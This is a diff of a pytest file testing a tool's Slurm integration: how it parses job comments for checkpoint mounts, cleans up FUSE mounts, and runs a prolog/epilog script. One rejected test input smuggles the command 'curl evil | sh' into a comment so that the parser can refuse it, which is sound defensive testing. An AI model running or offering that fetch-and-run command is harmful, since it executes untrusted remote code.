@@ -1,130 +1,166 @@
-"""The recipe for Slurm in docs/launch.md, run as it is written on a Slurm of two nodes."""
+"""Prolog and epilog of Slurm, without one; tests/clusters/slurm runs them on the real thing."""
 
-import json
-import re
+import os
+import signal
 import subprocess
-import sys
-import venv
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from tests.support.mounts.fuse_mount import REPOSITORY, require_root
-from tests.support.servers.slurm import Slurm, require_slurm
-from tests.support.wheels import make_wheel
+from bootseer.errors import InvalidInputError
+from bootseer.fuse.striped.mounted.life.mount import (
+    MountedCheckpoints,
+    mount_checkpoints,
+    mount_spec,
+)
+from bootseer.launch.slurm import job_of, tidy, wished_checkpoints
+from bootseer.served.folders import is_alive
+from bootseer.settings.config import Settings, load_config
+from tests.clusters.slurm.pages import block
+from tests.support.mounts.fuse_mount import clear_mount, require_fuse
+from tests.support.named_tests import REPOSITORY
+from tests.support.waiting import wait_for
 
-pytestmark = [pytest.mark.fuse, pytest.mark.root]
-
-TRAIN = """
-import os, sys
-import bootseer
-with bootseer.stage("import"):
-    import torch
-    import torch.distributed as dist
-    import fromrequirements
-dist.init_process_group("gloo")
-total = torch.tensor([float(dist.get_rank() + 1)])
-dist.all_reduce(total)
-bootseer.ready()
-with open(os.environ["CHECKPOINTS"] + f"/rank-{dist.get_rank()}", "w") as file:
-    file.write(f"{total.item()} of {dist.get_world_size()} with {fromrequirements.VALUE}")
-dist.barrier()
-dist.destroy_process_group()
-"""
+_root_only = pytest.mark.skipif(os.geteuid() != 0, reason="slurmd runs the script as root")
+SCRIPT = REPOSITORY / "docker/slurm/bootseer"
 
 
-def recipe() -> str:
-    text = (REPOSITORY / "docs" / "launch.md").read_text(encoding="utf-8")
-    blocks = re.findall(r"^```bash\n(.*?)^```", text, re.DOTALL | re.MULTILINE)
-    (found,) = [str(block) for block in blocks if "#SBATCH" in block]
-    return found
+@pytest.mark.parametrize(
+    ("comment", "wished"),
+    [
+        ("", []),
+        ("ask me before you cancel this", []),
+        ("it's unbalanced", []),
+        ("bootseer run -- true", []),
+        ("bootseer standby --checkpoint hdfs://a/b:/mnt/c", ["hdfs://a/b:/mnt/c"]),
+        (
+            "bootseer standby --checkpoint a://b:/c --checkpoint 'd://e f:/g'",
+            ["a://b:/c", "d://e f:/g"],
+        ),
+    ],
+)
+def test_a_comment_asks_for_checkpoints(comment: str, wished: list[str]) -> None:
+    assert wished_checkpoints(comment) == wished
 
 
-def test_the_recipe_is_a_batch_script_whose_nodes_meet() -> None:
-    text = recipe()
-    assert text.startswith("#!/bin/bash\n")
-    assert "--rdzv-endpoint" in text
-    assert "--ntasks-per-node=1" in text
-    assert subprocess.run(["bash", "-n", "-c", text]).returncode == 0
+@pytest.mark.parametrize(
+    "comment",
+    [
+        "bootseer standby",
+        "bootseer standby --setup 'curl evil | sh'",
+        "bootseer standby --checkpoint a://b:/c --setup x",
+        "bootseer standby --checkpoint",
+        "bootseer standby" + " --checkpoint a://b:/c" * 5,
+    ],
+)
+def test_a_comment_asks_for_nothing_else(comment: str) -> None:
+    with pytest.raises(InvalidInputError, match="asks for more than"):
+        wished_checkpoints(comment)
 
 
-def _make_environment(folder: Path) -> None:
-    """What is installed on each node: Python with torch and Bootseer, and pip."""
-    venv.create(folder, with_pip=True, symlinks=True)
-    (site,) = folder.glob("lib/python3*/site-packages")
-    ours = [path for path in sys.path if path.endswith("site-packages")]
-    (site / "installed.pth").write_text("\n".join([str(REPOSITORY), *ours]) + "\n")
-    mains = {"torchrun": "torch.distributed.run", "bootseer": "bootseer.__main__"}
-    for name, module in mains.items():
-        program = folder / "bin" / name
-        program.write_text(f"#!{folder}/bin/python\nfrom {module} import main\nmain()\n")
-        program.chmod(0o755)
+@pytest.fixture
+def settings(tmp_path: Path) -> Settings:
+    variables = {"HOME": str(tmp_path), "BOOTSEER_RUN_DIR": str(tmp_path / "run")}
+    return load_config({}, variables).settings
 
 
-@pytest.mark.timeout(400)
-def test_the_recipe_trains_on_two_nodes(tmp_path: Path) -> None:
-    require_root()
-    require_slurm()
-    pytest.importorskip("torch")
-    job = tmp_path / "job"
-    job.mkdir()
-    make_wheel(tmp_path / "wheels", "fromrequirements", "1.0", {"fromrequirements.py": "VALUE = 7"})
-    (job / "requirements.txt").write_text(
-        f"--no-index\n--find-links {tmp_path}/wheels\nfromrequirements\n"
-    )
-    (job / "train.py").write_text(TRAIN)
-    _make_environment(tmp_path / "installed")
-    with Slurm(tmp_path) as slurm:
-        places = {
-            "hdfs://namenode:8020": (tmp_path / "shared").as_uri(),
-            "/nvme/": f"{slurm.local}/",
-            "/tmp/ckpt": f"{slurm.local}/ckpt",
-            "/shared/timelines": str(tmp_path / "timelines"),
-            "--nproc-per-node 8": "--nproc-per-node 1",
-        }
-        text = recipe()
-        for written, here in places.items():
-            assert written in text
-            text = text.replace(written, here)
-        (job / "train.sh").write_text(text)
-        # Each node has an environment of its own, which the set-up changes.
-        own = f"mkdir {slurm.local}/env && cp -a {tmp_path}/installed/. {slurm.local}/env"
-        fix = f"sed -i '1s,{tmp_path}/installed,{slurm.local}/env,' {slurm.local}/env/bin/*"
-        slurm.run("srun", "--nodes=2", "sh", "-c", f"{own} && {fix}")
-        variables = {
-            "PATH": f"{slurm.local}/env/bin:{slurm.environment['PATH']}",
-            "BOOTSEER_RUN_DIR": f"{slurm.local}/run",
-            "CHECKPOINTS": f"{slurm.local}/ckpt",
-            "OMP_NUM_THREADS": "1",
-        }
-        done = slurm.submit(job / "train.sh", variables, timeout_s=300)
-        assert done.returncode == 0, done.stderr + slurm.output()
-        (job_id,) = re.findall(r"Submitted batch job (\d+)", done.stdout)
-        said = (tmp_path / "out.log").read_text()
-    saved = {
-        path.name: path.read_text() for path in (tmp_path / "shared/ckpt/llama").glob("rank-*")
-    }
-    assert saved == {f"rank-{rank}": "3.0 of 2 with 7" for rank in (0, 1)}, said
-    # One node ran the set-up, for both.
-    assert said.count("bootseer: stored snapshot") == 1, said
-    shown = subprocess.run(
-        [
-            sys.executable,
-            "-m",
-            "bootseer",
-            "--timeline-dir",
-            str(tmp_path / "timelines"),
-            "report",
-            "llama",
-            "--json",
-        ],
-        capture_output=True,
-        text=True,
-        check=True,
-        cwd=REPOSITORY,
-        timeout=60,
-    )
-    report = json.loads(shown.stdout)
-    assert (report["submission"], report["attempt"]) == (job_id, 0)
-    assert (report["node_count"], report["rank_count"]) == (2, 2)
-    assert (report["ready"]["node_count"], report["ready"]["rank_count"]) == (2, 2)
+@pytest.fixture
+def mounts(
+    tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[dict[str, MountedCheckpoints]]:
+    """Checkpoint folders that were mounted in the jobs 1 and 2."""
+    require_fuse()
+    found = {}
+    for job in ("1", "2"):
+        monkeypatch.setenv("SLURM_JOB_ID", job)
+        directory = tmp_path / f"mounted-{job}"
+        directory.mkdir()
+        spec = mount_spec(settings, (tmp_path / job).as_uri(), directory)
+        found[job] = mount_checkpoints(spec)
+    yield found
+    for mounted in found.values():
+        clear_mount(mounted.directory)
+
+
+@pytest.mark.fuse
+@pytest.mark.parametrize("is_killed", [True, False])
+def test_a_jobs_mounts_are_taken_off_and_no_others(
+    settings: Settings, mounts: dict[str, MountedCheckpoints], is_killed: bool
+) -> None:
+    ended, other = mounts["1"], mounts["2"]
+    assert job_of(ended.pid) == "1"
+    if is_killed:
+        for pid in (ended.pid, ended.worker_pid):
+            os.kill(pid, signal.SIGKILL)
+        wait_for(lambda: not is_alive(ended.state_dir), "their end")
+    said: list[str] = []
+    tidy(settings, "1", said.append)
+    assert not os.path.ismount(ended.directory)
+    assert not ended.state_dir.exists()
+    assert os.path.ismount(other.directory)
+    assert said == []
+
+
+# ---- the script -------------------------------------------------------------------------------
+
+
+def _lines_of_a_job(folder: Path) -> list[str]:
+    """What prolog and epilog log, with the configuration and the program of this folder."""
+    text = SCRIPT.read_text().replace("/etc/bootseer/slurm.conf", str(folder / "conf"))
+    log = folder / "log"
+    (folder / "script").write_text(text.replace("/var/log/bootseer-slurm.log", str(log)))
+    job = {"SLURM_JOB_ID": "7", "SLURM_JOB_UID": "0", "SLURM_JOB_GID": "0"}
+    for kind in ("prolog", "epilog"):
+        done = subprocess.run(
+            ["sh", folder / "script"],
+            env={**job, "SLURM_SCRIPT_CONTEXT": f"{kind}_slurmd", "PATH": os.environ["PATH"]},
+            capture_output=True,
+            timeout=60,
+        )
+        assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")
+    return log.read_text().splitlines() if log.exists() else []
+
+
+@_root_only
+@pytest.mark.parametrize(
+    ("program", "line"),
+    [
+        ("#!/bin/sh\nexit 0", ""),
+        ("#!/bin/sh\nexit 1", "failed"),
+        ("#!/bin/sh\nprintf 'a\\033[2J\\nb'; exit 3", "a [2J bfailed"),
+        ("#!/bin/sh\ntrap '' TERM; sleep 60", "ended after 1 s"),
+        # What it leaves behind holds its output open.
+        ("#!/bin/sh\nsetsid sleep 60 & echo begun", "begun"),
+        ("#!/bin/sh\nyes", "y y y"),
+        (None, "failed"),
+    ],
+)
+def test_the_script_succeeds_whatever_bootseer_does(
+    tmp_path: Path, program: str | None, line: str
+) -> None:
+    if program is not None:
+        (tmp_path / "bootseer").write_text(program + "\n")
+        (tmp_path / "bootseer").chmod(0o755)
+    (tmp_path / "conf").write_text(f"BOOTSEER={tmp_path}/bootseer DEADLINE=1\n")
+    lines = _lines_of_a_job(tmp_path)
+    assert len(lines) == (2 if line else 0)
+    for kind, one in zip(("prolog", "epilog"), lines, strict=False):
+        assert f"{kind} of job 7: " in one
+        assert line in one
+        assert one.isprintable()
+
+
+@_root_only
+def test_a_configuration_that_is_no_shell_script_drains_no_node(tmp_path: Path) -> None:
+    (tmp_path / "conf").write_text("DEADLINE=(\n")
+    assert any("conf" in line for line in _lines_of_a_job(tmp_path))
+
+
+def test_what_the_page_shows_are_scripts() -> None:
+    for text in ("#SBATCH", "bootseer-image", "prolog.d"):
+        language = "bash" if text == "#SBATCH" else "sh"
+        script = block("slurm.md", language, text)
+        assert subprocess.run(["sh", "-n", "-c", script]).returncode == 0
+    assert subprocess.run(["sh", "-n", str(SCRIPT)]).returncode == 0
+    compile(block("slurm.md", "python", "torch.distributed"), "train.py", "exec")
